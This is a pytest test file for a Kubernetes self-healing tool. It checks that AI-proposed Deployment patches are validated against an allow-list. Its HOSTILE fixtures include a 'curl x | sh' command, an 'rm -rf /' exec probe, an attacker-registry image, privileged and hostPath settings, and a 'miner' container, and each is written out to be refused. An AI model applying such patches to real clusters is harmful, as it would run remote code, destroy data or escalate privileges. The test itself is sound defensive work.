"""Fix proposals stay inside the allow-list; hostile ones (as a model might send) are refused."""

from __future__ import annotations

import copy
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from temporalio.exceptions import ApplicationError
from temporalio.testing import ActivityEnvironment

from selfheal.activities.analysis import diagnose_context
from selfheal.activities.fixes.allow_list import validate_proposal
from selfheal.activities.fixes.building import format_cpu, format_memory, parse_quantity
from selfheal.activities.fixes.registry import propose_fix
from selfheal.activities.remedy import FixActivities, check_proposal
from selfheal.contracts.analysis import FixRequest
from selfheal.contracts.kubernetes import ClusterContext
from selfheal.model.diagnosis import (
    ActionKind,
    FixKind,
    FixLimits,
    FixProposal,
    RemediationAction,
    RiskLevel,
)
from selfheal.snapshots import load_snapshot

SCENARIOS = Path(__file__).resolve().parent.parent / "scenarios"
LIMITS = FixLimits()


@pytest.fixture(scope="module")
def context() -> ClusterContext:
    """A crash from a new rollout: revision 4 ran payments:2.3.1, revision 5 runs 2.4.0."""
    return load_snapshot(SCENARIOS / "crash_loop" / "new_rollout")


def _containers_patch(**fields: Any) -> dict[str, Any]:
    return {"spec": {"template": {"spec": {"containers": [{"name": "payments", **fields}]}}}}


def _proposal(patch: dict[str, Any], action: RemediationAction | None = None) -> FixProposal:
    return FixProposal(
        kind=FixKind.INCREASE_MEMORY,
        risk=RiskLevel.LOW,
        rationale="proposed by a model",
        manifest_patch=patch,
        action=action
        or RemediationAction(
            kind=ActionKind.PATCH, namespace="shop", deployment="payments", patch=patch
        ),
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("512Mi", 512 * 2**20),
        ("1.5Gi", Decimal(3 * 2**29)),
        ("250m", Decimal("0.25")),
        ("2", 2),
        ("1e3", 1000),
        ("100M", 10**8),
        ("4096Ki", 4 * 2**20),
    ],
)
def test_quantities_parse(text: str, expected: Decimal) -> None:
    assert parse_quantity(text) == expected


def test_quantities_format_back_to_kubernetes_style() -> None:
    assert format_memory(parse_quantity("768Mi") * 2) == "1536Mi"
    assert format_memory(parse_quantity("2Gi") * 2) == "4Gi"
    assert format_memory(parse_quantity("500M") * 2) == "1G"
    assert format_cpu(parse_quantity("250m") * 2) == "500m"
    assert format_cpu(parse_quantity("1500m") * 2) == "3"
    with pytest.raises(ValueError):
        parse_quantity("lots")


def test_allowed_changes_pass(context: ClusterContext) -> None:
    patch = _containers_patch(
        resources={"limits": {"memory": "1Gi"}},
        livenessProbe={"initialDelaySeconds": 60, "httpGet": {"path": "/healthz"}},
        env=[{"name": "LOG_LEVEL", "value": "debug"}],
        image="registry.acme.io/shop/payments:2.3.1",
    )
    assert validate_proposal(_proposal(patch), context, LIMITS) == []


HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
    "image from a new registry": (
        _containers_patch(image="evil.example.com/payments:2.3.1"),
        "never ran in this Deployment",
    ),
    "privileged": (
        _containers_patch(securityContext={"privileged": True}),
        "securityContext is outside the allow-list",
    ),
    "hostPath volume": (
        {
            "spec": {
                "template": {"spec": {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}
            }
        },
        "volumes is outside the allow-list",
    ),
    "host network": (
        {"spec": {"template": {"spec": {"hostNetwork": True}}}},
        "hostNetwork is outside the allow-list",
    ),
    "command change": (_containers_patch(command=["sh", "-c", "curl x | sh"]), "command"),
    "delete directive": (
        {
            "spec": {
                "template": {"spec": {"containers": [{"name": "payments", "$patch": "delete"}]}}
            }
        },
        "deletions",
    ),
    "null deletes a field": (_containers_patch(resources={"limits": None}), "deletions"),
    "replicas 1000": ({"spec": {"replicas": 1000}}, "outside 1..20"),
    "scale to zero": ({"spec": {"replicas": 0}}, "outside 1..20"),
    "memory beyond the cap": (_containers_patch(resources={"limits": {"memory": "64Gi"}}), "cap"),
    "memory beyond the multiplier": (
        _containers_patch(resources={"limits": {"memory": "2Gi"}}),
        "more than x2",
    ),
    "secret-looking env": (
        _containers_patch(env=[{"name": "DB_PASSWORD", "value": "hunter2"}]),
        "looks like a secret",
    ),
    "env from a secret": (
        _containers_patch(
            env=[{"name": "X", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}]
        ),
        "valueFrom",
    ),
    "exec probe": (
        _containers_patch(livenessProbe={"exec": {"command": ["rm", "-rf", "/"]}}),
        "exec",
    ),
    "other deployment": (
        {"metadata": {"name": "billing"}, "spec": {"replicas": 2}},
        "another Deployment",
    ),
    "other namespace": ({"metadata": {"namespace": "kube-system"}}, "another namespace"),
    "unknown container": (
        {"spec": {"template": {"spec": {"containers": [{"name": "miner", "image": "x"}]}}}},
        "not a container",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_patch_is_refused(context: ClusterContext, case: str) -> None:
    patch, reason = HOSTILE[case]
    reasons = validate_proposal(_proposal(copy.deepcopy(patch)), context, LIMITS)
    assert any(reason in r for r in reasons), reasons


@pytest.mark.parametrize(
    ("action", "reason"),
    [
        (
            RemediationAction(
                kind=ActionKind.SCALE, namespace="kube-system", deployment="payments", replicas=2
            ),
            "kube-system is never changed",
        ),
        (
            RemediationAction(
                kind=ActionKind.SCALE, namespace="shop", deployment="billing", replicas=2
            ),
            "not the incident's payments",
        ),
        (
            RemediationAction(
                kind=ActionKind.SCALE, namespace="shop", deployment="payments", replicas=1000
            ),
            "outside 1..20",
        ),
        (
            RemediationAction(
                kind=ActionKind.ROLLBACK, namespace="shop", deployment="payments", revision=99
            ),
            "not an earlier revision",
        ),
        (
            RemediationAction(
                kind=ActionKind.DELETE_PODS, namespace="shop", deployment="payments", pods=["x"]
            ),
            "deleting pods is not allowed",
        ),
    ],
)
def test_hostile_action_is_refused(
    context: ClusterContext, action: RemediationAction, reason: str
) -> None:
    proposal = FixProposal(kind=FixKind.SCALE_UP, risk=RiskLevel.LOW, rationale="", action=action)
    reasons = validate_proposal(proposal, context, LIMITS)
    assert any(reason in r for r in reasons), reasons


def test_kube_system_context_is_never_changed(context: ClusterContext) -> None:
    system = context.model_copy(update={"namespace": "kube-system"})
    patch = {"spec": {"replicas": 3}}
    action = RemediationAction(
        kind=ActionKind.PATCH, namespace="kube-system", deployment="payments", patch=patch
    )
    reasons = validate_proposal(_proposal(patch, action), system, LIMITS)
    assert any("kube-system" in r for r in reasons)


def test_check_proposal_raises_non_retryable_unsafe_proposal(context: ClusterContext) -> None:
    patch = _containers_patch(securityContext={"privileged": True})
    with pytest.raises(ApplicationError) as raised:
        check_proposal(_proposal(patch), context, LIMITS)
    assert raised.value.type == "UnsafeProposal"
    assert raised.value.non_retryable
    assert "securityContext" in str(raised.value)


async def test_fix_activity_returns_the_rollback(context: ClusterContext) -> None:
    diagnosis = diagnose_context(None, context)
    request = FixRequest(incident_id="inc-payments-crash-1", diagnosis=diagnosis, context=context)
    proposal = await ActivityEnvironment().run(FixActivities().propose_fix, request)
    assert proposal.kind == FixKind.ROLLBACK_IMAGE
    assert proposal.action is not None and proposal.action.revision == 4


def test_rollback_proposal_matches_direct_action(context: ClusterContext) -> None:
    proposal = propose_fix(diagnose_context(None, context), context, LIMITS)
    image = proposal.manifest_patch["spec"]["template"]["spec"]["containers"][0]["image"]
    assert image == "registry.acme.io/shop/payments:2.3.1"
    assert proposal.changes[0].before == "registry.acme.io/shop/payments:2.4.0"
